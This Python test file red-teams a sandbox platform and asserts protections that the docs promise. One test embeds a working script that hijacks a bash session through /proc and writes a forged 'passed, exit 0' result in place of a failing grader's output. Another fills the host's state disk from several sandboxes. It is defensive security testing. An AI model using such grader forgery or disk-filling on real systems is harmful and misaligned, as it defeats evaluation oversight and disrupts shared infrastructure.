#!/usr/bin/env python3
"""
Red-team findings that still succeed on main (docs/security.md claims otherwise). Not in
security_suites: every test here fails today. Each performs its attack the way an attacker would
and asserts what the docs promise.
"""
import json
import os
import sys
import time

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from sec import AttackCase, main  # noqa: E402
from test_disk import MIB, SPEC, STATE_MIB, SmallStateCase, free_bytes  # noqa: E402

# Runs in the background as the workload (root of the sandbox): waits for a bash session's shell,
# stops it, reads the scripts execd writes to its stdin (through /proc/<pid>/fd/0, a pipe), takes the run's
# end marker from them and writes a forged result with exit code 0 into the shell's stdout pipe.
FORGER_PY = r'''
import os, re, signal, time
def shell():
    for p in os.listdir("/proc"):
        if p.isdigit():
            try:
                if open("/proc/%s/cmdline" % p, "rb").read() == b"/bin/bash\0--noprofile\0--norc\0":
                    return p
            except OSError:
                pass
while True:
    pid = shell()
    if pid:
        break
    time.sleep(0.05)
os.kill(int(pid), signal.SIGSTOP)  # the shell reads nothing until we are done
stdin = os.open("/proc/%s/fd/0" % pid, os.O_RDONLY)
stdout = os.open("/proc/%s/fd/1" % pid, os.O_WRONLY)
open("/tmp/forger-ready", "w").close()
data = b""
while True:
    data += os.read(stdin, 65536)
    m = re.search(rb"corral-([0-9a-f]{24})", data)
    if m:
        os.write(stdout, b"42 passed\n\x1ecorral-" + m.group(1) + b" 0\n")
        break
os.kill(int(pid), signal.SIGKILL)
'''


def events_of(body):
    out = []
    for chunk in body.decode(errors="replace").split("\n\n"):
        chunk = chunk.strip()
        if chunk.startswith("{"):
            out.append(json.loads(chunk))
    return out


class SessionForgeryTest(AttackCase):

    def test_session_exit_code_cannot_be_forged(self):
        # Attack: the workload reads a session's script from the shell's stdin and forges "42 passed", exit 0.
        sid = self.create(entrypoint=["sleep", "infinity"])["id"]
        self.run_ok(sid, "cat > /tmp/forger.py <<'EOF'\n%sEOF" % FORGER_PY)
        bg = self.client.run(sid, "exec python3 /tmp/forger.py", background=True)
        self.addCleanup(self.client.interrupt, sid, bg.init_id)
        r = self.client.post(self.client.execd_path(sid, "/session"), body={})
        self.assertEqual(r.status, 200, r)
        session = r.json()["session_id"]
        self.wait_until(lambda: self.client.run(sid, "test -e /tmp/forger-ready").exit_code == 0, 10,
                        interval=0.1, msg="the workload to find the session's shell")
        # The grader: its tests fail.
        r = self.client.post(self.client.execd_path(sid, "/session/%s/run" % session),
                             body={"command": "echo 0 passed, 3 failed; exit 1", "timeout": 20000})
        self.assertEqual(r.status, 200, r)
        ev = events_of(r.body)
        out = [e.get("text") for e in ev if e.get("type") == "stdout"]
        errors = [e for e in ev if e.get("type") == "error"]
        self.assertNotIn("42 passed", out, "the workload forged the grader's output: %r" % ev)
        self.assertTrue(errors and errors[-1]["error"]["evalue"] == "1",
                        "the grader's exit code 1 was not reported: %r" % ev)
        self.assert_platform_alive(sid)


class DiskOvercommitTest(SmallStateCase):
    """corrald on a 192 MiB state file system of its own, every sandbox with a 64Mi default disk,
    disks overcommitted (the default; --capacity disk= bounds their sum: test_disk.DiskCapacity)."""

    def test_sandboxes_within_their_limits_cannot_fill_the_state_fs(self):
        # Attack: five sandboxes, each writing 50 MiB (within its 64Mi disk), fill the host's state fs.
        sids = [self.create(**SPEC)["id"] for _ in range(5)]
        outs = []
        for sid in sids:
            outs.append(self.client.run(sid, "dd if=/dev/urandom of=/var/tmp/fill bs=1M count=50 "
                                        "conv=fsync status=none 2>&1; echo rc=$?", read_timeout=120)
                        .stdout)
        free = free_bytes(self.corrald.state_dir)
        self.assert_platform_alive(*sids)
        self.assertGreater(free, 8 * MIB, "sandboxes within their limits left %.1f MiB of the "
                           "%d MiB state fs: %r" % (free / MIB, STATE_MIB, outs))
        for sid, out in zip(sids, outs):
            self.assertIn("rc=0", out, "a write within the sandbox's own limit failed: %r" % outs)



if __name__ == "__main__":
    main()
